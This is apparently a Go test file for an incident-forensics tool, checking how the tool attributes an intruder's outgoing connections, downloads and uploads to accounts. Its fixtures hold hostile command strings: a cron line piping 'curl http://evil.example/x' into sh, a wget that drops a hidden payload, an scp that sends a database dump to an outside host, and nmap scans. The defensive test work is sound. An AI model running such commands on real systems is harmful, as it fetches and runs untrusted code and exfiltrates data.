package story

import (
	"slices"
	"strings"
	"testing"

	"telltale/detect"
	"telltale/evidence"
)

func outgoing(account, as, how, host, runs, when string) detect.Finding {
	f := detect.Finding{Detection: "D34", What: detect.Outgoing, Account: account, As: as, Mechanism: how, Source: host, Runs: runs, Method: "history", Service: strings.Fields(runs + " x")[0], Path: "/home/" + account + "/.bash_history", Title: account + " reached " + host, Rung: evidence.Effect, Count: 1, For: quote("/home/" + account + "/.bash_history")}
	if when != "" {
		f.First, f.Last = at(when), at(when)
	}
	return f
}

func knows(account, host string) detect.Finding {
	return detect.Finding{Detection: "D34", What: detect.KnownHost, Account: account, Source: host, Count: 1, Path: "/home/" + account + "/.ssh/known_hosts", Title: "knows " + host, For: quote("/home/" + account + "/.ssh/known_hosts")}
}

func reached(s *Story) string {
	var out []string
	for _, c := range s.Contacted {
		out = append(out, string(c.Status)+" "+c.How+" "+c.Host+" as "+c.Account)
	}
	slices.Sort(out)
	return strings.Join(out, "; ")
}

func TestContacted(t *testing.T) {
	bob, root := guessed("03:00:00", "03:10:00"), sudo("bob", "03:01:00")
	amyRoot := sudo("amy", "03:03:00")
	packet := detect.Finding{Detection: "D34", What: detect.Outgoing, Account: "www-data", Mechanism: "connection", Source: "10.0.0.5", Service: "ssh", Method: "packet", Title: "packets", Rung: evidence.Effect, First: at("03:04:00"), Last: at("03:05:00"), For: quote("/var/log/kern.log")}
	before := packet
	before.First = at("01:00:00")
	shared := login(detect.Login, "bob", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true})
	open, shut := lie()[2], lie()[2]
	shut.Detail = "protected by a passphrase"
	for _, tc := range []struct {
		name, want string
		findings   []detect.Finding
	}{
		{"in his session", "confirmed ssh db1 as bob", []detect.Finding{bob, outgoing("bob", "", "ssh", "db1", "ssh db1", "03:02:00")}},
		{"by sudo", "confirmed ssh db1 as root", []detect.Finding{bob, root, outgoing("bob", "root", "ssh", "db1", "ssh db1", "03:02:00")}},
		{"as root, whom he became", "confirmed ssh db1 as root", []detect.Finding{bob, root, outgoing("root", "", "ssh", "db1", "ssh db1", "03:02:00")}},
		{"root's, whom he did not become", "", []detect.Finding{bob, outgoing("root", "", "ssh", "db1", "ssh db1", "03:02:00")}},
		{"before his session", "", []detect.Finding{bob, outgoing("bob", "", "ssh", "db1", "ssh db1", "01:02:00")}},
		{"an administrator's, at that time", "", []detect.Finding{bob, root, amyThere, outgoing("amy", "", "ssh", "db1", "ssh db1", "03:02:00")}},
		{"root's, which an administrator was too", "possible ssh db1 as root", []detect.Finding{bob, root, amyThere, amyRoot, outgoing("root", "", "ssh", "db1", "ssh db1", "03:04:00")}},
		{"an administrator's, and nobody came", "", []detect.Finding{amyThere, outgoing("amy", "", "ssh", "db1", "ssh db1", "03:02:00")}},
		{"without times, the account is his alone", "possible ssh db1 as bob", []detect.Finding{bob, outgoing("bob", "", "ssh", "db1", "ssh db1", "")}},
		{"without times, and others had it", "", []detect.Finding{bob, login(detect.Login, "bob", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true}), outgoing("bob", "", "ssh", "db1", "ssh db1", "")}},
		{"without times, root's, and an administrator was root", "", []detect.Finding{bob, root, amyThere, sudo("amy", "03:20:00"), outgoing("root", "", "ssh", "db1", "ssh db1", "")}},
		{"without times, to where he came from", "likely download 203.0.113.6 as bob", []detect.Finding{bob, login(detect.Login, "bob", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true}), outgoing("bob", "", "download", "203.0.113.6", "curl http://203.0.113.6/x", "")}},
		{"without times, a program that he left running", "likely download 10.9.9.9 as bob", []detect.Finding{bob, root, shared, cron("/etc/cron.d/x", "/var/tmp/.x/y >/dev/null", detect.Critical, "03:02:00"), outgoing("bob", "", "download", "10.9.9.9", "wget -q http://10.9.9.9/y -O /var/tmp/.x/y", "")}},
		{"without times, that program sent away by somebody who looks into it", "", []detect.Finding{bob, root, shared, cron("/etc/cron.d/x", "/var/tmp/.x/y >/dev/null", detect.Critical, "03:02:00"), outgoing("bob", "", "upload", "10.9.9.9", "scp /var/tmp/.x/y 10.9.9.9:", "")}},
		{"a packet of the web server", "confirmed connection 10.0.0.5 as www-data", []detect.Finding{shell, packet}},
		{"one that went before, too", "", []detect.Finding{shell, before}},
		{"what he left calls", "likely download evil.example as root", []detect.Finding{bob, root, cron("/etc/cron.d/x", "curl http://evil.example/x | sh", detect.Critical, "03:02:00")}},
		{"where the keys lead", "possible known-host db1 as amy", []detect.Finding{bob, root, open, knows("amy", "db1"), knows("bob", "db2")}},
		{"a key with a passphrase leads nowhere", "", []detect.Finding{bob, root, shut, knows("amy", "db1")}},
		{"a key that he could not read", "", []detect.Finding{bob, open, knows("amy", "db1")}},
	} {
		s := Build(t.Context(), tc.findings, full())
		check(t, &s)
		if got := reached(&s); got != tc.want {
			t.Errorf("%s: got %q, want %q", tc.name, got, tc.want)
		}
	}
}

func TestDoubtIsTold(t *testing.T) {
	s := Build(t.Context(), []detect.Finding{guessed("03:00:00", "03:10:00"), login(detect.Login, "bob", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true}), outgoing("bob", "", "ssh", "db1", "ssh db1", "")}, full())
	if !slices.ContainsFunc(s.Unknown, func(u string) bool { return strings.Contains(u, "db1") }) {
		t.Errorf("%q", s.Unknown)
	}
}

func TestScansAreCounted(t *testing.T) {
	fs := []detect.Finding{guessed("03:00:00", "03:10:00")}
	for _, h := range []string{"a.example", "b.example", "c.example", "d.example"} {
		fs = append(fs, outgoing("bob", "", "scan", h, "nmap "+h, "03:02:00"))
	}
	s := Build(t.Context(), fs, full())
	if got := reached(&s); got != "confirmed scan a.example and 3 more as bob" {
		t.Error(got)
	}
}

func TestWhatToWatch(t *testing.T) {
	s := Build(t.Context(), append(lie(), guessed("03:00:00", "03:10:00"), sudo("bob", "03:01:00"), knows("amy", "db2"), outgoing("bob", "", "ssh", "db1", "ssh db1", "03:02:00")), full())
	var steps []string
	for _, d := range s.DoNow {
		steps = append(steps, d.Step)
	}
	got := strings.Join(steps, "\n")
	for _, want := range []string{"since 2024-01-02T03:02:00Z on db1", "keys of this server's accounts on db2"} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is missing in:\n%s", want, got)
		}
	}
}

func TestADumpThatWasSent(t *testing.T) {
	up := outgoing("bob", "", "upload", "203.0.113.9", "scp /tmp/s.sql /tmp/kit.tgz x@203.0.113.9:", "03:02:00")
	up.Views = []string{"/tmp/s.sql", "/tmp/kit.tgz"}
	s := Build(t.Context(), []detect.Finding{guessed("03:00:00", "03:10:00"), up}, full())
	check(t, &s)
	if got := told(&s); got != "taken confirmed /tmp/s.sql as bob" || len(s.Impact) != 1 || s.Impact[0].What != "exfiltration" {
		t.Errorf("%s; %+v", got, s.Impact)
	}
	s = Build(t.Context(), []detect.Finding{guessed("04:00:00", "04:10:00"), up}, full()) // before he came
	if len(s.Exposed)+len(s.Impact)+len(s.Contacted) != 0 {
		t.Errorf("%+v", s.Exposed)
	}
}
